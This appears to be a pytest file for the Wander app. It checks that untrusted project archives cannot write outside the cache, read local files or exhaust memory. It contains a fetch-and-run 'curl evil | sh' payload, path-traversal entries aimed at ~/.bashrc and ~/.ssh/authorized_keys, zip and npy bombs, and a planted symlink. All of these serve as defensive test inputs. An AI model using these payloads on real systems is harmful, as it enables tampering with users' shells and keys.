"""Hostile projects (issue 11, kinds 1-3): a `.wander` file is untrusted input.

1. Nothing derived from a manifest writes outside Wander's cache or reads a local file,
   and saved manifests carry photo names, not the sender's folders.
2. Bombs (inflation, no central directory, thousands of layers sharing one entry, npy
   headers, nested npz) are refused before they cost memory; peak RSS is measured.
3. Malformed values give warnings or one SceneFormatError naming the project and the
   entry — never a traceback, never a silent change.
"""

from __future__ import annotations

import hashlib
import io
import json
import zipfile
from pathlib import Path

import numpy as np
import pytest
from conftest import random_cloud
from project_craft import (
    cloud_ply,
    fake_home,
    layer_entry,
    manifest,
    project,
    raw_zip,
    run_cli,
    run_cli_peak,
    simple_project,
    snapshot,
    zero_bomb,
)

from scene import project as proj
from scene.errors import SceneFormatError
from scene.project import load_project, read_manifest, save_project
from scene.world import Layer, World

EVIL = b"curl evil | sh  # written by a project\n"
GB = 1 << 30


@pytest.fixture(autouse=True)
def _cache_in_tmp(tmp_path, monkeypatch):
    monkeypatch.setenv("WANDER_CACHE_DIR", str(tmp_path / "wander-cache"))


def cli_fails_cleanly(res, project_name: str, *words: str) -> None:
    """Exit 2, one 'error:' line naming the project (and `words`), no traceback."""
    assert res.returncode == 2, (res.returncode, res.stdout, res.stderr)
    assert "Traceback" not in res.stderr
    errors = [ln for ln in res.stderr.splitlines() if ln.startswith("error:")]
    assert len(errors) == 1, res.stderr
    assert project_name in errors[0]
    for w in words:
        assert w in errors[0], (w, errors[0])


# ============================================================== kind 1: writes/reads
def evil_inputs(home: Path) -> list[dict]:
    """Input entries that each try to land EVIL on ~/.bashrc (or elsewhere in HOME)."""
    good = hashlib.sha256(EVIL).hexdigest()
    return [
        {"original": "/x/.bashrc", "stored": "inputs/a", "sha256": "../../../", "size": len(EVIL)},
        {"original": "/x/.bashrc", "stored": "inputs/a", "sha256": str(home), "size": len(EVIL)},
        {"original": "/x/.bashrc", "stored": "inputs/a", "sha256": str(home) + "/", "size": 1},
        {
            "original": "../../../../.bashrc",
            "stored": "inputs/a",
            "sha256": "../../../../../../../../../../" + str(home)[1:],
            "size": 1,
        },
        {"original": "..", "stored": "inputs/a", "sha256": good, "size": len(EVIL)},
        {"original": ".", "stored": "inputs/a", "sha256": good},
        {"original": "", "stored": "inputs/a", "sha256": good},
        {"original": "photo.jpg/", "stored": "inputs/a", "sha256": good},
        {"original": str(home / ".ssh" / "authorized_keys"), "stored": "../../a", "sha256": good},
        {"original": "C:\\Users\\x\\..\\..\\.bashrc", "stored": "inputs/a", "sha256": "g" * 64},
        {"original": "ok.jpg", "stored": "inputs/a", "sha256": "0" * 64},  # wrong checksum
        {"original": "ok.jpg", "stored": "inputs/a", "sha256": good + "00"},
        {"original": "ok.jpg", "stored": "inputs/a", "sha256": 12345},
        {"original": ["x"], "stored": "inputs/a", "sha256": good},
        "not an object",
    ]


def evil_project(tmp_path: Path, home: Path) -> Path:
    meta = {"photo": str(home / ".bashrc"), "p": {"__path__": str(home / ".ssh")}}
    return project(
        tmp_path / "evil.wander",
        manifest(
            format_version="1.0",
            layers=[layer_entry()],
            meta=meta,
            inputs=evil_inputs(home),
            bookmarks=[
                {"name": "a", "position": [0, 0, 3], "yaw": 0, "pitch": 0, "fov_y_deg": 60},
                {"name": "b", "position": [1, 0, 3], "yaw": 0.2, "pitch": 0, "fov_y_deg": 50},
            ],
        ),
        {"layers/1.ply": cloud_ply(), "inputs/a": EVIL},
    )


@pytest.mark.parametrize(
    "command",
    [
        ["export", "evil.wander", "--out", "x.ply"],
        ["export", "evil.wander", "--out", "x.ply", "--cameras", "cams"],
        ["render", "evil.wander", "--out", "x.png", "--size", "64x48"],
        [
            "video",
            "evil.wander",
            "--from-bookmarks",
            "--size",
            "64x48",
            "--fps",
            "2",
            "--seconds",
            "1",
            "--out",
            "v.mp4",
        ],
    ],
)
@pytest.mark.slow
def test_cli_never_writes_outside_output_and_wanders_folders(tmp_path, command):
    env = fake_home(tmp_path)
    home = Path(env["HOME"])
    work = tmp_path / "work"
    work.mkdir()
    evil_project(work, home)
    before = snapshot(home)
    res = run_cli(command, env, work)
    assert res.returncode == 0, res.stderr
    assert "Traceback" not in res.stderr
    assert snapshot(home) == before
    assert (home / ".bashrc").read_text() == "# the user's own bashrc\n"
    # Every refused input was reported.
    assert res.stderr.count("warning: input") >= 10
    # Only the output (and the project) are in the working folder.
    made = {p.name for p in work.iterdir()} - {"evil.wander"}
    assert made <= {"x.ply", "x.png", "cams", "v.mp4"}, made
    # The cache holds nothing but the one input whose checksum matched (under a plain name).
    cached = [p for p in (home / ".cache").rglob("*") if p.is_file()]
    assert all(p.read_bytes() == EVIL and p.parent.parent.name == "project-inputs" for p in cached)


def test_checksum_and_name_validation_in_the_library(tmp_path):
    home = tmp_path / "home"
    home.mkdir()
    (home / ".bashrc").write_text("mine")
    p = evil_project(tmp_path, home)
    cache = tmp_path / "cache"
    world, warnings = load_project(p, inputs_dir=cache)
    assert (home / ".bashrc").read_text() == "mine"
    text = "\n".join(warnings)
    assert text.count("not a SHA-256") >= 6 and "not a plain file name" in text
    assert "do not match its checksum" in text
    assert "is not in the project" not in text
    files = sorted(q for q in cache.rglob("*") if q.is_file())
    # Only 'photo.jpg/' -> no; the matching checksum with a plain name is not in this list
    # (all entries with the good checksum have bad names), so nothing was unpacked.
    assert files == []
    assert len(world.layers) == 1


def test_valid_input_with_a_path_for_a_name_lands_in_the_cache(tmp_path):
    good = hashlib.sha256(EVIL).hexdigest()
    p = project(
        tmp_path / "p.wander",
        manifest(
            format_version="1.0",
            layers=[layer_entry(source={"photo": "/a/b/x.jpg"})],
            inputs=[
                {
                    "original": "/a/b/../../../../x.jpg",
                    "stored": "inputs/a",
                    "sha256": good.upper(),
                    "size": len(EVIL),
                }
            ],
        ),
        {"layers/1.ply": cloud_ply(), "inputs/a": EVIL},
    )
    cache = tmp_path / "cache"
    world, warnings = load_project(p, inputs_dir=cache)
    (f,) = [q for q in cache.rglob("*") if q.is_file()]
    assert f == (cache / good[:16] / "x.jpg").resolve() and f.read_bytes() == EVIL
    assert warnings == []


def test_planted_symlink_in_the_cache_is_not_followed(tmp_path):
    good = hashlib.sha256(EVIL).hexdigest()
    outside = tmp_path / "outside"
    outside.mkdir()
    cache = tmp_path / "cache"
    cache.mkdir()
    (cache / good[:16]).symlink_to(outside)
    p = project(
        tmp_path / "p.wander",
        manifest(
            layers=[layer_entry()], inputs=[{"name": "x.jpg", "stored": "inputs/a", "sha256": good}]
        ),
        {"layers/1.ply": cloud_ply(), "inputs/a": EVIL},
    )
    world, warnings = load_project(p, inputs_dir=cache)
    assert list(outside.iterdir()) == []
    assert any("could not be unpacked" in w for w in warnings)


def test_a_manifest_cannot_make_save_read_a_local_file(tmp_path):
    secret = tmp_path / "private" / "secret.jpg"
    secret.parent.mkdir()
    secret.write_bytes(b"SECRET-BYTES" * 20)
    meta = {
        "photo": str(secret),
        "as_path": {"__path__": str(secret)},
        "nested": [{"__tuple__": [str(secret)]}],
    }
    p = project(
        tmp_path / "p.wander",
        manifest(
            format_version="1.0",
            meta=meta,
            layers=[layer_entry(source={"photo": str(secret)})],
            # a legacy entry whose original exists with the right size, but no copy
            inputs=[
                {
                    "original": str(secret),
                    "stored": "inputs/missing",
                    "sha256": hashlib.sha256(secret.read_bytes()).hexdigest(),
                    "size": secret.stat().st_size,
                }
            ],
        ),
        {"layers/1.ply": cloud_ply()},
    )
    world, warnings = load_project(p)
    assert world.meta["photo"] == str(secret)  # the text is kept as text...
    out = tmp_path / "resaved.wander"
    save_project(world, out)  # ...but never read
    raw = out.read_bytes()
    assert b"SECRET-BYTES" not in raw
    with zipfile.ZipFile(out) as zf:
        assert not [n for n in zf.namelist() if n.startswith("inputs/")]
        assert json.loads(zf.read("manifest.json"))["inputs"] == []
    # The same holds for a snapshot (what the app saves from a worker thread).
    save_project(proj.snapshot_world(world), out)
    assert b"SECRET-BYTES" not in out.read_bytes()


def test_the_users_own_photos_are_still_saved_and_restored(tmp_path):
    photo = tmp_path / "My Trips" / "Alice" / "beach.jpg"
    photo.parent.mkdir(parents=True)
    photo.write_bytes(b"\xff\xd8jpeg" * 50)
    w = World()
    w.add_layer(Layer("base", random_cloud(20), source={"photo": str(photo), "as_path": photo}))
    w.meta = {"panorama_source": str(photo)}
    p = tmp_path / "share.wander"
    save_project(w, p)
    with zipfile.ZipFile(p) as zf:
        text = zf.read("manifest.json").decode()
        assert any(n.endswith("_beach.jpg") for n in zf.namelist())
    assert str(photo.parent) not in text and "Alice" not in text and "My Trips" not in text
    man = read_manifest(p)
    assert man["inputs"][0]["name"] == "beach.jpg"
    assert man["layers"][0]["source"]["photo"] == {
        "__input__": man["inputs"][0]["sha256"],
        "name": "beach.jpg",
    }
    # Opened elsewhere: every reference points at the unpacked copy.
    w2, warnings = load_project(p, inputs_dir=tmp_path / "cache")
    assert warnings == []
    got = Path(w2.layers[0].source["photo"])
    assert got.name == "beach.jpg" and got.read_bytes() == photo.read_bytes()
    assert w2.layers[0].source["as_path"] == got and w2.meta["panorama_source"] == str(got)
    # ...and a second save carries the photo on (the cache copy came from the project).
    p2 = tmp_path / "again.wander"
    save_project(w2, p2)
    assert photo.read_bytes() in p2.read_bytes()


# =============================================================== kind 2: bombs
def bomb_project(tmp_path: Path, mb: int, central: bool = True, lie: int | None = None) -> Path:
    stream, usize, crc = zero_bomb(mb)
    man = json.dumps(manifest(layers=[layer_entry(), layer_entry(2, "layers/2.ply")])).encode()
    return raw_zip(
        tmp_path / f"bomb{mb}{'' if central else '-nocd'}.wander",
        [
            ("manifest.json", man),
            ("layers/1.ply", cloud_ply()),
            ("layers/2.ply", stream, 8, usize if lie is None else lie, crc),
        ],
        central=central,
    )


@pytest.mark.parametrize("central", [True, False])
def test_inflation_bomb_is_refused_before_inflating(tmp_path, central):
    p = bomb_project(tmp_path, 1024, central)  # 1 MB file, 1 GiB inflated
    assert p.stat().st_size < 2 << 20
    world, warnings = load_project(p)
    assert [lay.name for lay in world.layers] == ["layer 1"]
    text = "\n".join(warnings)
    assert "layers/2.ply" in text and "refused" in text


def test_entry_that_inflates_beyond_its_declared_size_is_cut_off(tmp_path):
    for central in (True, False):
        p = bomb_project(tmp_path, 64, central, lie=1000)
        world, warnings = load_project(p)
        assert [lay.name for lay in world.layers] == ["layer 1"]
        assert any("layers/2.ply" in w for w in warnings), warnings


def test_declared_size_beyond_the_file_is_refused(tmp_path):
    man = json.dumps(manifest(layers=[layer_entry()])).encode()
    p = raw_zip(
        tmp_path / "big.wander", [("manifest.json", man), ("layers/1.ply", b"ply\n", 0, 3 << 30, 0)]
    )
    # its only layer is refused: nothing is left to open, which is an error, not an
    # empty world said to be "opened"
    with pytest.raises(SceneFormatError, match=r"none of its 1 layer.*layers/1\.ply"):
        load_project(p)


def test_a_project_none_of_whose_layers_loads_names_every_layers_reason(tmp_path):
    """Four layers, all missing: the one error line gave the reasons of the last two; it
    names each layer's (the first six, then how many more)."""
    from project_craft import project

    entries = [layer_entry(i, f"layers/{i}.ply") for i in range(1, 5)]
    p = project(tmp_path / "gone.wander", manifest(layers=entries))
    with pytest.raises(SceneFormatError) as err:
        load_project(p)
    for i in range(1, 5):
        assert f"layers/{i}.ply" in str(err.value)
    entries = [layer_entry(i, f"layers/{i}.ply") for i in range(1, 10)]
    p = project(tmp_path / "many.wander", manifest(layers=entries))
    with pytest.raises(SceneFormatError, match="layers/6.ply.*; and 3 more"):
        load_project(p)


def test_manifest_bomb_fails_clearly(tmp_path):
    stream, usize, crc = zero_bomb(64)
    p = raw_zip(tmp_path / "m.wander", [("manifest.json", stream, 8, usize, crc)])
    with pytest.raises(SceneFormatError, match="manifest.json.*limit"):
        load_project(p)


@pytest.mark.slow
def test_thousands_of_layers_sharing_one_entry_are_bounded(tmp_path, monkeypatch):
    body = cloud_ply(800, sh_degree=3)  # ~200 KB
    man = manifest(layers=[layer_entry(i + 1, "layers/1.ply") for i in range(20_000)])
    p = project(tmp_path / "many.wander", man, {"layers/1.ply": body})
    assert p.stat().st_size < 4 << 20
    world, warnings = load_project(p)
    assert len(world.layers) <= proj.MAX_LAYERS
    assert "20,000 layers" in warnings[0]
    # Every re-use of the shared entry is counted: a smaller budget stops sooner.
    manifest_bytes = len(json.dumps(man))  # inflating the manifest counts too
    monkeypatch.setattr(proj, "MAX_EXPANSION", manifest_bytes + 10 * len(body))
    world, warnings = load_project(p)
    assert len(world.layers) == 11
    assert sum("read again" in w for w in warnings) == proj.MAX_LAYERS - 11


def test_npy_header_claiming_a_huge_shape(tmp_path):
    hdr = io.BytesIO()
    np.lib.format.write_array_header_1_0(
        hdr, {"descr": "<f8", "fortran_order": False, "shape": (10**6, 10**6)}
    )
    huge = hdr.getvalue() + b"\0" * 64
    obj = io.BytesIO()
    np.lib.format.write_array_header_1_0(
        obj, {"descr": "|O", "fortran_order": False, "shape": (1,)}
    )
    p = project(
        tmp_path / "npy.wander",
        manifest(
            layers=[layer_entry()],
            arrays=["arrays/0.npy", "arrays/1.npy"],
            meta={"pano": {"__npy__": "arrays/0.npy"}, "o": {"__npy__": "arrays/1.npy"}},
        ),
        {
            "layers/1.ply": cloud_ply(),
            "arrays/0.npy": huge,
            "arrays/1.npy": obj.getvalue() + b"\x80\x04N.",
        },
    )
    assert p.stat().st_size < 4096
    world, warnings = load_project(p)
    text = "\n".join(warnings)
    assert "arrays/0.npy" in text and "(1000000, 1000000)" in text and "memory" not in text
    assert "arrays/1.npy" in text and "object" in text
    assert world.meta == {"pano": None, "o": None} and len(world.layers) == 1


def test_mesh_npz_bomb_and_lying_member(tmp_path):
    stream, usize, crc = zero_bomb(1024)
    inner = tmp_path / "inner.npz"
    hdr = io.BytesIO()
    np.lib.format.write_array_header_1_0(
        hdr, {"descr": "<f4", "fortran_order": False, "shape": (3, 3)}
    )
    raw_zip(inner, [("vertices.npy", stream, 8, usize, crc), ("faces.npy", hdr.getvalue())])
    p = project(
        tmp_path / "mesh.wander",
        manifest(
            layers=[
                layer_entry(1, "layers/1.npz", data="mesh", kind="mesh"),
                layer_entry(2, "layers/2.ply"),
            ]
        ),
        {"layers/1.npz": inner.read_bytes(), "layers/2.ply": cloud_ply()},
    )
    world, warnings = load_project(p)
    assert [lay.id for lay in world.layers] == [2]
    assert any("layers/1.npz/vertices.npy" in w for w in warnings), warnings


@pytest.mark.slow
@pytest.mark.parametrize("kind", ["ratio", "no-central-directory", "shared-entry"])
def test_peak_memory_of_crafted_projects_via_cli(tmp_path, kind):
    """`python main.py export crafted.wander --out x.ply` stays under 1.5 GB + 3x the
    layer data the file really holds."""
    env = fake_home(tmp_path)
    if kind == "shared-entry":
        body = cloud_ply(800, sh_degree=3)
        p = project(
            tmp_path / "c.wander",
            manifest(layers=[layer_entry(i + 1, "layers/1.ply") for i in range(20_000)]),
            {"layers/1.ply": body},
        )
    else:
        p = bomb_project(tmp_path, 3000, central=kind == "ratio")  # 3 MB -> 3 GB
        p = p.rename(tmp_path / "c.wander")
    real = p.stat().st_size
    res, peak = run_cli_peak(["export", "c.wander", "--out", "x.ply"], env, tmp_path)
    assert "Traceback" not in res.stderr
    assert peak < 1.5 * GB + 3 * real, (kind, peak, real)
    print(f"{kind}: file {real / 1e6:.2f} MB, peak RSS {peak / 1e6:.0f} MB")


# ============================================================ kind 3: values
def test_deep_nesting_is_one_clear_error(tmp_path):
    for depth in (100, 200_000):
        text = (
            json.dumps(manifest(layers=[layer_entry()]))[:-1]
            + ', "meta": '
            + "[" * depth
            + "]" * depth
            + "}"
        )
        p = project(tmp_path / f"deep{depth}.wander", text, {"layers/1.ply": cloud_ply()})
        with pytest.raises(SceneFormatError, match="manifest.json.*(nest|deep)") as e:
            load_project(p)
        assert str(p) in str(e.value)


@pytest.mark.slow
def test_deep_nesting_and_huge_ints_via_cli(tmp_path):
    env = fake_home(tmp_path)
    deep = json.dumps(manifest())[:-1] + ', "meta": ' + '{"a":' * 100_000 + "1" + "}" * 100_001
    project(tmp_path / "deep.wander", deep)
    res = run_cli(["export", "deep.wander", "--out", "x.ply"], env, tmp_path)
    cli_fails_cleanly(res, "deep.wander", "manifest.json")
    huge = json.dumps(manifest(layers=[layer_entry()]))[:-1] + ', "saved_at": ' + "9" * 5000 + "}"
    project(tmp_path / "ints.wander", huge, {"layers/1.ply": cloud_ply()})
    res = run_cli(["export", "ints.wander", "--out", "x.ply"], env, tmp_path)
    cli_fails_cleanly(res, "ints.wander", "manifest.json")
    assert not (tmp_path / "x.ply").exists()


def test_wrong_types_in_tagged_values_are_warnings(tmp_path):
    bad = [
        {"__float__": [1]},
        {"__float__": {"a": 1}},
        {"__float__": "abc"},
        {"__float__": True},
        {"__tuple__": 5},
        {"__tuple__": {"a": 1}},
        {"__npy__": [1]},
        {"__npy__": {"x": 1}},
        {"__path__": 5},
        {"__path__": ["a"]},
        {"__path__": "a\u0000b"},
        {"__items__": 5},
        {"__items__": [[{"k": 1}, 2]]},
        {"__items__": [[1]]},
        {"__items__": [5]},
        {"__input__": 7},
        {"__input__": "ab", "name": 3},
        {"__unsupported__": 3, "repr": 5},
        {"__float__": "1e999"},
        {"__tuple__": [{"__float__": None}]},
    ]
    meta = {f"k{i}": v for i, v in enumerate(bad)}
    p = simple_project(
        tmp_path / "types.wander", meta=meta, bookmarks=[{"name": "ok", "position": [0, 1, 2]}]
    )
    world, warnings = load_project(p)
    assert len(world.layers) == 1 and len(world.bookmarks) == 1
    assert world.meta["k18"] == float("inf") and world.meta["k0"] is None
    assert sum("wrong type" in w for w in warnings) >= 15


def test_ids_of_1e999_huge_ints_and_duplicates_are_renumbered(tmp_path):
    layers = [
        layer_entry(1e999, "layers/1.ply"),
        layer_entry(7, "layers/2.ply"),
        layer_entry(7, "layers/3.ply"),
        layer_entry(10**300, "layers/4.ply"),
        layer_entry("../../x", "layers/5.ply"),
        layer_entry(True, "layers/6.ply"),
        layer_entry(-3, "layers/7.ply"),
    ]
    text = json.dumps(manifest(layers=layers))
    assert "Infinity" in text
    p = project(
        tmp_path / "ids.wander",
        text,
        {f"layers/{i}.ply": cloud_ply(5 + i, seed=i) for i in range(1, 8)},
    )
    world, warnings = load_project(p)
    ids = [lay.id for lay in world.layers]
    assert len(ids) == 7 and len(set(ids)) == 7 and all(isinstance(i, int) and i > 0 for i in ids)
    assert ids[1] == 7
    assert sum("renumbered" in w for w in warnings) == 6
    assert any("already used by another layer" in w for w in warnings)
    # Deleting one of the former duplicates leaves the other.
    second = world.layers[2]
    world.remove_layer(world.layers[1].id)
    assert second in world.layers and len(world.layers) == 6
    # Saving and reopening keeps the repaired ids.
    out = tmp_path / "fixed.wander"
    save_project(world, out)
    w2, warnings2 = load_project(out)
    assert [lay.id for lay in w2.layers] == [lay.id for lay in world.layers] and warnings2 == []


@pytest.mark.slow
def test_bookmark_with_zero_fov_does_not_crash_export_cameras(tmp_path):
    env = fake_home(tmp_path)
    bms = [
        {"name": "zero", "position": [0, 0, 3], "yaw": 0, "pitch": 0, "fov_y_deg": 0},
        {"name": "ok", "position": [1, 0, 3], "yaw": 0.1, "pitch": 0, "fov_y_deg": 60},
        {"name": "nan", "position": [0, 0, 3], "yaw": 0, "pitch": 0, "fov_y_deg": 1e999},
        {"name": "big", "position": [10**400, 0, 3], "yaw": 0, "pitch": 0, "fov_y_deg": 60},
        {"name": "neg", "position": [0, 0, 3], "fov_y_deg": -5},
        {"name": "str", "position": "x", "fov_y_deg": 60},
        5,
        # finite but so far that eye + a step forward is the eye: the app drew black frames
        # and an error each frame (a trial)
        {"name": "far", "position": [1e30, 1e30, 1e30], "fov_y_deg": 60},
    ]
    simple_project(tmp_path / "bm.wander", bookmarks=bms)
    res = run_cli(["export", "bm.wander", "--out", "x.ply", "--cameras", "cams"], env, tmp_path)
    assert res.returncode == 0 and "Traceback" not in res.stderr, res.stderr
    assert "field of view 0" in res.stderr and "(zero)" in res.stderr
    assert "wrote 1 camera to" in res.stdout
    world, warnings = load_project(tmp_path / "bm.wander")
    assert [b.name for b in world.bookmarks] == ["ok"] and len(warnings) == 7
    assert any("(far)" in w and "more than 1e+08 m from the origin" in w for w in warnings)
    # Only bad bookmarks: one clear line, exit 2.
    simple_project(tmp_path / "bm0.wander", bookmarks=bms[:1])
    res = run_cli(["export", "bm0.wander", "--cameras", "cams0"], env, tmp_path)
    assert res.returncode == 2 and "Traceback" not in res.stderr
    assert res.stderr.count("error:") == 1


def test_vertex_count_minus_one_and_nan_splats_say_what_was_dropped(tmp_path):
    c = random_cloud(10, sh_degree=1, seed=4)
    from scene.io.ply import ply_bytes

    good = ply_bytes(c)
    minus = good.replace(b"element vertex 10\n", b"element vertex -1\n")
    short = good.replace(b"element vertex 10\n", b"element vertex 12\n")
    c2 = random_cloud(10, seed=5)
    c2.means[3, 1] = np.nan
    c2.shN = np.zeros((10, 0, 3), np.float32)
    c2.opacities[6] = np.inf
    nan = ply_bytes(c2)
    zero_sh = ply_bytes(random_cloud(10, seed=6)).replace(
        b"element vertex 10\n", b"element vertex -1\n"
    )
    p = project(
        tmp_path / "v.wander",
        manifest(
            layers=[
                layer_entry(1, "layers/1.ply"),
                layer_entry(2, "layers/2.ply"),
                layer_entry(3, "layers/3.ply"),
                layer_entry(4, "layers/4.ply"),
            ]
        ),
        {
            "layers/1.ply": minus,
            "layers/2.ply": nan,
            "layers/3.ply": zero_sh,
            "layers/4.ply": short,
        },
    )
    world, warnings = load_project(p)
    assert [len(lay.data) for lay in world.layers] == [10, 8, 10, 10]
    text = "\n".join(warnings)
    assert "layers/1.ply says it holds -1 splats but its data holds 10" in text
    assert "dropped 2 of 10 splats holding NaN or infinite values" in text
    assert "says it holds 12 splats" in text and "2 splats are missing" in text
    np.testing.assert_array_equal(world.layers[0].data.shN, c.shN)


def test_garbage_values_in_known_fields(tmp_path):
    p = simple_project(
        tmp_path / "g.wander",
        up_axis=[10**400, 0, 0],
        format_version="1.1",
        layers=[
            layer_entry(transform=[[10**300] * 4] * 4),
            layer_entry(2, "layers/1.ply", transform="abc", name={"a": 1}),
            layer_entry(3, 5),
            layer_entry(4, "layers/1.ply", transform=[[1, 2], [3, 4]]),
        ],
    )
    world, warnings = load_project(p)
    assert len(world.layers) == 3
    assert all(np.array_equal(lay.transform, np.eye(4)) for lay in world.layers)
    text = "\n".join(warnings)
    assert "up axis unreadable" in text and text.count("transform is invalid") == 3
    assert "names no data file" in text


def test_an_up_axis_too_long_to_measure_is_unreadable(tmp_path):
    """Finite components whose squares overflow (a generated manifest's 1e300) made the up
    axis's length inf, which passed the check: the world kept (1e300, 1e300, 0) as up."""
    world, warnings = load_project(simple_project(tmp_path / "u.wander", up_axis=[1e300, 1e300, 0]))
    assert "up axis unreadable" in "\n".join(warnings)
    np.testing.assert_array_equal(world.up_axis, [0.0, 1.0, 0.0])


def test_app_version_and_format_version_garbage(tmp_path):
    for v in ("9" * 4000, [1], "x.y", None, 1e999):
        p = simple_project(tmp_path / "fv.wander", format_version=v)
        with pytest.raises(SceneFormatError, match="fv.wander: project format version"):
            load_project(p)


def test_untrusted_paths_stay_untrusted_through_an_autosave_and_recovery(tmp_path):
    secret = tmp_path / "secret.png"
    secret.write_bytes(b"PRIVATE-PIXELS" * 10)
    mine = tmp_path / "mine.jpg"
    mine.write_bytes(b"MY-OWN-PHOTO" * 10)
    p = simple_project(tmp_path / "p.wander", meta={"photo": str(secret)})
    world, _ = load_project(p)
    world.layers[0].source["photo"] = str(mine)  # the user's own work after opening
    auto = proj.write_autosave(world, None, tmp_path / "auto", proj.new_doc_id())
    (rec,) = proj.find_recoveries(tmp_path / "auto")
    assert rec.autosave == auto
    recovered, _ = proj.recover(rec)
    out = tmp_path / "saved.wander"
    save_project(recovered, out)
    raw = out.read_bytes()
    assert b"PRIVATE-PIXELS" not in raw and b"MY-OWN-PHOTO" in raw
